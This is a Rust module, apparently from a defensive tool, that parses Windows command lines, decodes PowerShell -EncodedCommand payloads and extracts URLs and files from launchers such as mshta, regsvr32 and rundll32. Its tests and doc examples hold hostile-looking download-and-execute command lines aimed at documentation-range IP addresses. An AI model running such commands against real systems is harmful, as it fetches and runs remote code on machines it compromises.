//! Windows command lines taken apart the way Windows takes them apart:
//! `CommandLineToArgvW`'s quoting rules, `%VAR%` expansion, the loader's search of an
//! unquoted path with spaces (`C:\Program Files\Evil Corp\evil.exe` tries `C:\Program.exe`
//! first), and what the usual launchers hand on to: `cmd /c`, `powershell -EncodedCommand`
//! (decoded) and `-File`, `rundll32 dll,entry`, `regsvr32 /i:URL`, `mshta`, `wscript`/`cscript`,
//! `msiexec`.
use foothold_core::{urls_in, CommandFlag, Invocation, TargetKind};

/// How deep launchers are followed (`cmd /c cmd /c …`).
const MAX_DEPTH: usize = 4;

/// Split a command line into arguments by `CommandLineToArgvW`'s rules, with the byte offset
/// where each argument ends. The first argument (the program) ends at the first space
/// outside quotes and takes no backslash escapes; later arguments follow the 2n / 2n+1
/// backslash rules, and `""` inside quotes is one literal quote.
fn argv_spans(line: &str) -> (Vec<(String, usize)>, bool) {
    let b = line.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while matches!(b.get(i), Some(b' ' | b'\t')) {
        i = i.saturating_add(1);
    }
    if i >= b.len() {
        return (out, false);
    }
    // argv[0]
    let mut prog = String::new();
    let mut unterminated = false;
    // Positions stay on character boundaries: they move past whole characters, or past
    // the ASCII spaces, tabs, quotes and backslashes this split looks for.
    let rest = |at: usize| line.get(at..).unwrap_or_default();
    if b.get(i) == Some(&b'"') {
        let start = i.saturating_add(1);
        match rest(start).split_once('"') {
            Some((quoted, _)) => {
                prog.push_str(quoted);
                i = start.saturating_add(quoted.len()).saturating_add(1);
            }
            None => {
                prog.push_str(rest(start));
                i = b.len();
                unterminated = true;
            }
        }
        // Characters right after the closing quote belong to argv[0] too.
        while b.get(i).is_some_and(|c| *c != b' ' && *c != b'\t') {
            let c = rest(i).chars().next().unwrap_or(' ');
            prog.push(c);
            i = i.saturating_add(c.len_utf8());
        }
    } else {
        let start = i;
        while b.get(i).is_some_and(|c| *c != b' ' && *c != b'\t') {
            i = i.saturating_add(1);
        }
        prog.push_str(line.get(start..i).unwrap_or_default());
    }
    out.push((prog, i));
    loop {
        while matches!(b.get(i), Some(b' ' | b'\t')) {
            i = i.saturating_add(1);
        }
        if i >= b.len() {
            break;
        }
        let mut arg = String::new();
        let mut quoted = false;
        while let Some(&ch) = b.get(i) {
            match ch {
                b'\\' => {
                    let mut n = 0usize;
                    while b.get(i) == Some(&b'\\') {
                        n = n.saturating_add(1);
                        i = i.saturating_add(1);
                    }
                    if b.get(i) == Some(&b'"') {
                        arg.extend(std::iter::repeat_n('\\', n / 2));
                        if n % 2 == 1 {
                            arg.push('"');
                            i = i.saturating_add(1);
                        }
                    } else {
                        arg.extend(std::iter::repeat_n('\\', n));
                    }
                }
                b'"' => {
                    if quoted && b.get(i.saturating_add(1)) == Some(&b'"') {
                        arg.push('"');
                        i = i.saturating_add(2);
                    } else {
                        quoted = !quoted;
                        i = i.saturating_add(1);
                    }
                }
                b' ' | b'\t' if !quoted => break,
                _ => {
                    let c = rest(i).chars().next().unwrap_or('?');
                    arg.push(c);
                    i = i.saturating_add(c.len_utf8().max(1));
                }
            }
        }
        unterminated |= quoted;
        out.push((arg, i));
    }
    (out, unterminated)
}

/// Split a command line into arguments by `CommandLineToArgvW`'s rules.
///
/// ```
/// use foothold_windows::split_command_line;
/// assert_eq!(split_command_line(r#""C:\Program Files\a.exe" /x "b c" d\"e"#), [r"C:\Program Files\a.exe", "/x", "b c", "d\"e"]);
/// assert_eq!(split_command_line(r#"a.exe "x\\" y"#), ["a.exe", "x\\", "y"]);
/// ```
pub fn split_command_line(line: &str) -> Vec<String> {
    argv_spans(line).0.into_iter().map(|(a, _)| a).collect()
}

/// Expand `%NAME%` references with `env` (names compared case-insensitively by the caller's
/// lookup). Unknown names stay as written and are returned.
///
/// ```
/// let env = |n: &str| (n.eq_ignore_ascii_case("SystemRoot")).then(|| r"C:\Windows".to_string());
/// let (s, unknown) = foothold_windows::expand_environment(r"%systemroot%\x.exe %NOPE% 50%", &env);
/// assert_eq!(s, r"C:\Windows\x.exe %NOPE% 50%");
/// assert_eq!(unknown, ["NOPE"]);
/// ```
pub fn expand_environment(
    text: &str,
    env: &dyn Fn(&str) -> Option<String>,
) -> (String, Vec<String>) {
    let mut out = String::with_capacity(text.len());
    let mut unknown = Vec::new();
    let mut rest = text;
    while let Some((before, after)) = rest.split_once('%') {
        out.push_str(before);
        match after.split_once('%') {
            Some((name, next)) if !name.is_empty() && !name.contains([' ', '\\', '"']) => {
                match env(name) {
                    Some(v) => out.push_str(&v),
                    None => {
                        out.push('%');
                        out.push_str(name);
                        out.push('%');
                        if !unknown
                            .iter()
                            .any(|u: &String| u.eq_ignore_ascii_case(name))
                        {
                            unknown.push(name.to_string());
                        }
                    }
                }
                rest = next;
            }
            _ => {
                out.push('%');
                rest = after;
            }
        }
    }
    out.push_str(rest);
    (out, unknown)
}

/// The executable extensions the loader tries, in `PATHEXT`'s default order.
pub const PATHEXT: &[&str] = &[
    ".com", ".exe", ".bat", ".cmd", ".vbs", ".vbe", ".js", ".jse", ".wsf", ".wsh", ".msc",
];

fn has_extension(path: &str) -> bool {
    let name = path.rsplit(['\\', '/']).next().unwrap_or(path);
    name.contains('.')
}

/// The program part of a path (`C:\x\rundll32.exe` → `rundll32`), lowercase.
fn program_name(p: &str) -> String {
    let name = p
        .rsplit(['\\', '/'])
        .next()
        .unwrap_or(p)
        .to_ascii_lowercase();
    match name.rsplit_once('.') {
        Some((stem, ext)) if PATHEXT.contains(&format!(".{ext}").as_str()) => stem.to_string(),
        _ => name,
    }
}

/// The paths `CreateProcess` tries for an unquoted command line with spaces: each prefix
/// ending at a space, with `.exe` added when it has no extension, until one that ends in
/// `.exe`. Empty when the line is quoted or its first space is after the program.
///
/// ```
/// let c = foothold_windows::unquoted_candidates(r"C:\Program Files\Evil Corp\evil.exe -k x");
/// assert_eq!(c, [r"C:\Program.exe", r"C:\Program Files\Evil.exe", r"C:\Program Files\Evil Corp\evil.exe"]);
/// assert!(foothold_windows::unquoted_candidates(r"C:\Windows\svchost.exe -k netsvcs").is_empty());
/// ```
pub fn unquoted_candidates(line: &str) -> Vec<String> {
    let t = line.trim_start();
    if t.starts_with('"') {
        return Vec::new();
    }
    let mut out = Vec::new();
    let lower = t.to_ascii_lowercase();
    // Where the first `.exe` ends: past that the loader does not look.
    let stop = lower.find(".exe").map_or(t.len(), |i| i.saturating_add(4));
    // (`stop` is where an ASCII `.exe` ends, or the end.)
    let head = t.get(..stop).unwrap_or(t);
    if !head.contains(' ') {
        return Vec::new();
    }
    for (i, c) in head.char_indices() {
        if c == ' ' {
            let p = head.get(..i).unwrap_or_default();
            out.push(if has_extension(p) {
                p.to_string()
            } else {
                format!("{p}.exe")
            });
        }
    }
    out.push(head.to_string());
    out
}

/// PowerShell's parameter: whether `arg` names `-EncodedCommand` (`-e`, `-ec`, `-enc`, …,
/// with `-` or `/`).
fn is_encoded_param(arg: &str) -> bool {
    let Some(p) = arg.strip_prefix(['-', '/']) else {
        return false;
    };
    let p = p.to_ascii_lowercase();
    p == "e" || p == "ec" || (p.len() >= 2 && "encodedcommand".starts_with(&p))
}

fn is_param(arg: &str, full: &str, min: usize) -> bool {
    let Some(p) = arg.strip_prefix(['-', '/']) else {
        return false;
    };
    let p = p.to_ascii_lowercase();
    p.len() >= min && full.starts_with(&p)
}

/// Take apart a command line: `program` (a task's `Command`, or a whole service
/// `ImagePath` with `arguments` `None`), `%VAR%` expanded with `env`.
///
/// ```
/// use foothold_windows::parse_windows_command;
/// let env = |_: &str| None;
/// let i = parse_windows_command("powershell.exe", Some("-nop -w hidden -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwAyADAAMwAuADAALgAxADEAMwAuADkALwBhACkA"), &env);
/// assert_eq!(i.decoded, ["IEX (iwr http://203.0.113.9/a)"]);
/// assert_eq!(i.targets[1].path, "http://203.0.113.9/a");
/// let r = parse_windows_command(r"rundll32.exe", Some(r"C:\Users\Public\x.dll,Start"), &env);
/// assert_eq!((r.targets[1].path.as_str(), r.targets[1].entry.as_deref()), (r"C:\Users\Public\x.dll", Some("Start")));
/// ```
pub fn parse_windows_command(
    program: &str,
    arguments: Option<&str>,
    env: &dyn Fn(&str) -> Option<String>,
) -> Invocation {
    let (program, mut unknown) = expand_environment(program.trim(), env);
    let (line, candidates) = match arguments {
        Some(a) => {
            let (a, u) = expand_environment(a, env);
            unknown.extend(u);
            let p = if program.contains(' ') && !program.starts_with('"') {
                format!("\"{program}\"")
            } else {
                program.clone()
            };
            (format!("{p} {a}").trim_end().to_string(), Vec::new())
        }
        None => {
            let c = unquoted_candidates(&program);
            (program.clone(), c)
        }
    };
    let mut inv = Invocation {
        command_line: line.clone(),
        candidates,
        ..Invocation::default()
    };
    if inv.candidates.len() > 1 {
        inv.flag(CommandFlag::UnquotedPathWithSpaces);
    }
    unknown.dedup();
    if !unknown.is_empty() {
        inv.flag(CommandFlag::UnexpandedVariable);
        inv.unexpanded = unknown;
    }
    let (argv, unterminated) = argv_spans(&line);
    if unterminated {
        inv.flag(CommandFlag::UnterminatedQuote);
    }
    if let Some(((p, _), rest)) = argv.split_first() {
        inv.program = match inv.candidates.last() {
            Some(last) => last.clone(),
            None => p.clone(),
        };
        // With an unquoted path, the arguments start after the program the loader found.
        let args_from = inv
            .candidates
            .last()
            .map_or(0, |l| line.trim_start().len().min(l.len()));
        inv.args = if inv.candidates.is_empty() {
            rest.iter().map(|(a, _)| a.clone()).collect()
        } else {
            // (Candidates are prefixes of the line, cut at spaces.)
            let after = line.trim_start().get(args_from..).unwrap_or_default();
            split_command_line(&format!("x {after}"))
                .into_iter()
                .skip(1)
                .collect()
        };
        let prog = inv.program.clone();
        inv.target(TargetKind::Program, prog, None, None);
        let raw_after: Vec<usize> = argv.iter().map(|(_, e)| *e).collect();
        launcher(&mut inv, &line, &raw_after, 0);
    }
    inv
}

/// What a `powershell.exe`/`pwsh` command line runs.
pub(crate) enum PsScript {
    /// `-EncodedCommand`'s script, decoded.
    Encoded(String),
    /// An `-EncodedCommand` that is not base64 of UTF-16LE text.
    NotDecoded,
    /// `-File`'s script.
    File(String),
    /// `-Command`'s text (or the arguments after the parameters: PowerShell runs them as a
    /// command), joined as PowerShell joins them.
    Command(String),
    /// Nothing said (an interactive shell).
    Nothing,
}

/// What PowerShell's own parameters (`args`, the program's arguments) say it runs.
pub(crate) fn powershell_script(args: &[String]) -> PsScript {
    let mut i = 0;
    while let Some(a) = args.get(i) {
        if is_encoded_param(a) {
            return match args
                .get(i.saturating_add(1))
                .and_then(|b| decode_utf16_base64(b))
            {
                Some(script) => PsScript::Encoded(script),
                None => PsScript::NotDecoded,
            };
        }
        if is_param(a, "file", 1) {
            return args
                .get(i.saturating_add(1))
                .map_or(PsScript::Nothing, |f| PsScript::File(f.clone()));
        }
        if is_param(a, "command", 1) || !a.starts_with(['-', '/']) {
            let from = if a.starts_with(['-', '/']) {
                i.saturating_add(1)
            } else {
                i
            };
            let text = args.get(from..).unwrap_or_default().join(" ");
            return if text.is_empty() {
                PsScript::Nothing
            } else {
                PsScript::Command(text)
            };
        }
        // Parameters that take a value.
        if [
            "executionpolicy",
            "windowstyle",
            "version",
            "configurationname",
            "psconsolefile",
            "inputformat",
            "outputformat",
            "workingdirectory",
        ]
        .iter()
        .any(|p| is_param(a, p, 2))
            || a.eq_ignore_ascii_case("-w")
            || a.eq_ignore_ascii_case("-ep")
        {
            i = i.saturating_add(2);
            continue;
        }
        i = i.saturating_add(1);
    }
    PsScript::Nothing
}

/// Follow what the program hands on to.
fn launcher(inv: &mut Invocation, line: &str, ends: &[usize], depth: usize) {
    let args = inv.args.clone();
    let prog = program_name(&inv.program);
    let via = Some(prog.clone() + ".exe");
    match prog.as_str() {
        "cmd" => {
            // `/c` or `/k`: the rest of the line, as written, is the command.
            if let Some(k) = args.iter().position(|a| {
                let l = a.to_ascii_lowercase();
                l == "/c" || l == "/k" || l == "/r"
            }) {
                let raw = line
                    .get(ends.get(k.saturating_add(1)).copied().unwrap_or(line.len())..)
                    .unwrap_or("");
                let mut inner = raw.trim();
                if let Some(unquoted) = inner.strip_prefix('"').and_then(|x| x.strip_suffix('"')) {
                    inner = unquoted;
                }
                for part in split_cmd_operators(inner) {
                    nested(inv, part, "cmd.exe /c", depth);
                }
            }
        }
        "powershell" | "pwsh" => match powershell_script(&args) {
            PsScript::Encoded(script) => {
                inv.flag(CommandFlag::EncodedCommand);
                for u in urls_in(&script) {
                    inv.target(
                        TargetKind::Url,
                        u,
                        None,
                        Some("powershell.exe -EncodedCommand".into()),
                    );
                }
                inv.decoded.push(script);
            }
            PsScript::NotDecoded => inv.flag(CommandFlag::EncodedCommandNotDecoded),
            PsScript::File(f) => {
                inv.target(
                    TargetKind::Script,
                    f,
                    None,
                    Some("powershell.exe -File".into()),
                );
            }
            PsScript::Command(text) => {
                inv.flag(CommandFlag::InlineScript);
                for u in urls_in(&text) {
                    inv.target(
                        TargetKind::Url,
                        u,
                        None,
                        Some("powershell.exe -Command".into()),
                    );
                }
            }
            PsScript::Nothing => {}
        },
        "rundll32" => {
            if let Some(first) = args.first() {
                let l = first.to_ascii_lowercase();
                if l.starts_with("javascript:")
                    || l.starts_with("vbscript:")
                    || l.contains("runhtmlapplication")
                {
                    inv.flag(CommandFlag::InlineScript);
                    for u in urls_in(&args.join(" ")) {
                        inv.target(TargetKind::Url, u, None, via.clone());
                    }
                } else {
                    let (dll, entry) = match first.rsplit_once(',') {
                        Some((d, e)) => (d.to_string(), Some(e.trim().to_string())),
                        None => (first.clone(), args.get(1).cloned()),
                    };
                    inv.target(TargetKind::Dll, dll, entry, via);
                }
            }
        }
        "regsvr32" => {
            for a in &args {
                let l = a.to_ascii_lowercase();
                if let Some(v) = l.strip_prefix("/i:").or_else(|| l.strip_prefix("-i:")) {
                    // The value as written (`l` is `a` lowercased: same length).
                    let v = a.get(a.len().saturating_sub(v.len())..).unwrap_or(v);
                    let kind = if v.contains("://") {
                        TargetKind::Url
                    } else {
                        TargetKind::File
                    };
                    inv.target(kind, v.to_string(), None, via.clone());
                } else if !a.starts_with(['/', '-']) {
                    inv.target(TargetKind::Dll, a.clone(), None, via.clone());
                }
            }
        }
        "mshta" => {
            if let Some(first) = args.first() {
                let l = first.to_ascii_lowercase();
                if l.starts_with("vbscript:") || l.starts_with("javascript:") {
                    inv.flag(CommandFlag::InlineScript);
                } else if l.contains("://") {
                    inv.target(TargetKind::Url, first.clone(), None, via);
                } else {
                    inv.target(TargetKind::Script, first.clone(), None, via);
                }
            }
        }
        "wscript" | "cscript" => {
            if let Some(f) = args.iter().find(|a| !a.starts_with("//")) {
                inv.target(TargetKind::Script, f.clone(), None, via);
            }
        }
        "msiexec" => {
            if let Some(k) = args.iter().position(|a| {
                let l = a.to_ascii_lowercase();
                l == "/i" || l == "/package" || l == "-i"
            }) {
                if let Some(p) = args.get(k.saturating_add(1)) {
                    let kind = if p.contains("://") {
                        TargetKind::Url
                    } else {
                        TargetKind::File
                    };
                    inv.target(kind, p.clone(), None, via);
                }
            }
        }
        _ => {}
    }
    // Any other argument that is an address or a UNC path.
    for a in &args {
        for u in urls_in(a) {
            inv.target(TargetKind::Url, u, None, None);
        }
        if a.starts_with("\\\\") && !a.starts_with("\\\\?\\") && !a.starts_with("\\\\.\\") {
            inv.target(TargetKind::File, a.clone(), None, None);
        }
    }
}

/// A command inside another (`cmd /c …`): its program and what it hands on to join the
/// outer invocation's targets.
fn nested(inv: &mut Invocation, line: &str, via: &str, depth: usize) {
    if depth >= MAX_DEPTH || line.trim().is_empty() {
        return;
    }
    let (argv, _) = argv_spans(line);
    let Some(((p, _), rest)) = argv.split_first() else {
        return;
    };
    let mut inner = Invocation {
        program: p.clone(),
        args: rest.iter().map(|(a, _)| a.clone()).collect(),
        ..Invocation::default()
    };
    inner.target(TargetKind::Program, p.clone(), None, Some(via.to_string()));
    let ends: Vec<usize> = argv.iter().map(|(_, e)| *e).collect();
    launcher(&mut inner, line, &ends, depth.saturating_add(1));
    for t in inner.targets {
        inv.target(
            t.kind,
            t.path,
            t.entry,
            t.via.or_else(|| Some(via.to_string())),
        );
    }
    inv.decoded.extend(inner.decoded);
    for f in inner.flags {
        inv.flag(f);
    }
}

/// Split a `cmd` command on `&`, `&&`, `||` and `|` outside quotes.
fn split_cmd_operators(line: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let mut quoted = false;
    let mut start = 0;
    let b = line.as_bytes();
    let mut i = 0;
    // Operators are ASCII, so every cut is on a character boundary.
    while let Some(&c) = b.get(i) {
        match c {
            b'"' => quoted = !quoted,
            b'^' if !quoted => i = i.saturating_add(1),
            b'&' | b'|' if !quoted => {
                out.push(line.get(start..i).unwrap_or_default().trim());
                i = i.saturating_add(usize::from(b.get(i.saturating_add(1)) == Some(&c)));
                start = i.saturating_add(1);
            }
            _ => {}
        }
        i = i.saturating_add(1);
    }
    out.push(line.get(start..).unwrap_or_default().trim());
    out.retain(|s| !s.is_empty());
    out
}

/// A PowerShell `-EncodedCommand` payload: base64 of UTF-16LE text.
fn decode_utf16_base64(b64: &str) -> Option<String> {
    let bytes = foothold_core::base64_decode(b64)?;
    if bytes.len() % 2 != 0 || bytes.is_empty() {
        return None;
    }
    let units: Vec<u16> = bytes
        .chunks_exact(2)
        .filter_map(|c| foothold_core::u16_at(c, 0))
        .collect();
    String::from_utf16(&units).ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn none(_: &str) -> Option<String> {
        None
    }

    #[test]
    fn cmd_chains_and_nested_launchers() {
        let i = parse_windows_command(
            r"C:\Windows\System32\cmd.exe",
            Some(
                r#"/c "mshta http://198.51.100.7/p.hta & regsvr32 /s /n /u /i:http://198.51.100.7/x.sct scrobj.dll""#,
            ),
            &none,
        );
        let t: Vec<(&str, &str)> = i
            .targets
            .iter()
            .map(|t| (t.kind.as_str(), t.path.as_str()))
            .collect();
        assert_eq!(
            t,
            [
                ("program", r"C:\Windows\System32\cmd.exe"),
                ("program", "mshta"),
                ("url", "http://198.51.100.7/p.hta"),
                ("program", "regsvr32"),
                ("url", "http://198.51.100.7/x.sct"),
                ("dll", "scrobj.dll"),
            ]
        );
    }

    #[test]
    fn unquoted_service_path() {
        let i = parse_windows_command(
            r"C:\Program Files\Evil Corp\evil.exe -k netsvcs",
            None,
            &none,
        );
        assert!(i.flags.contains(&CommandFlag::UnquotedPathWithSpaces));
        assert_eq!(i.program, r"C:\Program Files\Evil Corp\evil.exe");
        assert_eq!(i.args, ["-k", "netsvcs"]);
        assert_eq!(i.candidates[0], r"C:\Program.exe");
        let q = parse_windows_command(r#""C:\Program Files\a b\x.exe" -s"#, None, &none);
        assert!(q.candidates.is_empty() && q.flags.is_empty());
        assert_eq!(q.program, r"C:\Program Files\a b\x.exe");
    }

    #[test]
    fn encoded_command_forms() {
        // "whoami" in UTF-16LE, base64, under each accepted spelling of the parameter.
        for p in ["-e", "-ec", "-enc", "-EncodedCommand", "/enc"] {
            let i = parse_windows_command(
                "powershell",
                Some(&format!("-NoP {p} dwBoAG8AYQBtAGkA")),
                &none,
            );
            assert_eq!(i.decoded, ["whoami"], "{p}");
        }
        let bad = parse_windows_command("powershell", Some("-enc !!!"), &none);
        assert_eq!(bad.flags, [CommandFlag::EncodedCommandNotDecoded]);
        let ex = parse_windows_command("powershell", Some("-ex bypass -f C:\\x.ps1"), &none);
        assert_eq!(ex.targets[1].path, "C:\\x.ps1");
    }
}
